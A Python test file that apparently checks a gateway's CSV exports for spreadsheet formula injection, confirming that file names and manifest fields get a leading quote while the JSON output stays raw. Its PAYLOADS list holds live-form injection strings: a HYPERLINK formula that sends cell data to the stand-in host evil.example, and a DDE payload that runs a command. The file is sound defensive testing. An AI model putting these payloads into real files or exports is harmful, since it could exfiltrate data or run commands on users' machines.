"""Formula injection: names and manifest fields that a spreadsheet would run as formulas
come back from every CSV export neutralised (a leading `'`), and raw in the JSON."""

from __future__ import annotations

import csv
import io

from core.patients import normalize_id
from tests.attacks.conftest import Target
from tests.attacks.stored import count_rows
from tests.integration.conftest import tile_bytes

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1).png",
    "-2+3",
]


def as_sent(name: str) -> str:
    """Return a file name as the gateway receives it: multipart encodes `"` as `%22`."""
    return name.replace('"', "%22")


def manifest_for(names: list[str]) -> bytes:
    """Return a manifest giving each name a label, patient and slide that are payloads."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["filename", "label", "patient_id", "slide_id"])
    for name, payload in zip(names, PAYLOADS, strict=True):
        writer.writerow([as_sent(name), payload, payload, payload])
    return buffer.getvalue().encode()


def csv_table(text: str) -> list[dict[str, str]]:
    """Return a CSV export's rows keyed by its header."""
    return list(csv.DictReader(io.StringIO(text)))


def neutralised(cell: str, raw: str) -> bool:
    """Return whether a CSV cell is the raw value behind a leading quote."""
    return cell == "'" + raw


def test_formula_payloads_are_neutralised_in_every_csv_export(target: Target) -> None:
    names = [f"{payload}.png" if not payload.endswith(".png") else payload for payload in PAYLOADS]
    files = [("files", (name, tile_bytes(300 + i), "image/png")) for i, name in enumerate(names)]
    files.append(("manifest", ("manifest.csv", manifest_for(names), "text/csv")))
    healthz_before = target.healthz_seconds()
    with target.client() as client:
        created = client.post("/v1/jobs", files=files)
        assert created.status_code == 202, created.text
        links = created.json()["links"]
        items = client.get(links["results"], params={"limit": 100}).json()["items"]
        results_csv = client.get(links["csv"])
        summary = client.get(links["summary"]).json()
        summary_csv = client.get(links["summary"], params={"format": "csv"})
    assert results_csv.status_code == summary_csv.status_code == 200
    by_name = {item["filename"]: item for item in items}
    assert sorted(by_name) == sorted(map(as_sent, names))  # the JSON keeps raw values
    rows = {row["item_id"]: row for row in csv_table(results_csv.text)}
    for item in items:
        row = rows[item["item_id"]]
        for field, json_field in [
            ("filename", "filename"),
            ("true_label", "true_label"),
            ("patient_id", "patient_id"),
            ("slide_id", "slide_id"),
        ]:
            assert item[json_field].lstrip()[0] in "=+-@", item
            assert neutralised(row[field], item[json_field]), (field, row[field])
    patients = {group["patient_id"] for group in summary["patients"]}
    assert patients == {normalize_id(payload) for payload in PAYLOADS}
    for row in csv_table(summary_csv.text):
        assert neutralised(row["patient_id"], row["patient_id"][1:]), row
        assert row["patient_id"][1:] in patients
        assert row["patient_spellings"][1:] in PAYLOADS, row  # the raw spelling, neutralised
        if row["level"] == "slide":
            assert neutralised(row["slide_id"], row["slide_id"][1:]), row
    assert target.healthz_seconds() < max(1.0, 10 * healthz_before)


def test_numbers_are_left_as_numbers(target: Target) -> None:
    with target.client() as client:
        created = client.post("/v1/jobs", files=[("files", ("-1.png", tile_bytes(320)))])
        assert created.status_code == 202, created.text
        rows = csv_table(client.get(created.json()["links"]["csv"]).text)
    assert rows[0]["filename"] == "'-1.png"  # a name is text, whatever it looks like
    assert rows[0]["attempts"] == "0"  # a count is written as the number it is


def test_csv_exports_store_nothing(target: Target) -> None:
    with target.client() as client:
        created = client.post("/v1/jobs", files=[("files", ("=1+1.png", tile_bytes(321)))])
        links = created.json()["links"]
        stored = count_rows(target.database_url)
        blobs = target.blob_count()
        for _ in range(3):
            assert client.get(links["csv"]).status_code == 200
            assert client.get(links["summary"], params={"format": "csv"}).status_code == 200
    assert count_rows(target.database_url) == stored
    assert target.blob_count() == blobs
